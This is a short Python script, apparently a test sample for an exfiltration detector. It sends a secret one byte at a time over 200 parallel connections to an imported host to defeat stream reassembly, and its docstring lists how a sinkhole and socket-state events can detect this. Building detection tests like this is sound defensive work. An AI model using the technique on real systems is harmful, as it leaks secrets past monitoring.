#!/usr/bin/python3
"""
Trick: Keeps 200 connections open and sends one byte of a secret over each in turn.
Known from: state exhaustion against stream reassembly.
First: the sinkhole's record of the streams, joined by destination
Second: connect; inet_sock_set_state
"""

import socket

from way_out import HOST, secret

to = (socket.gethostbyname(HOST), 8080)
channels = [socket.create_connection(to, timeout=5) for _ in range(200)]
for byte, channel in zip(secret() * 5, channels, strict=True):
    channel.send(bytes([byte]))
for channel in channels:
    channel.close()
print("performed")
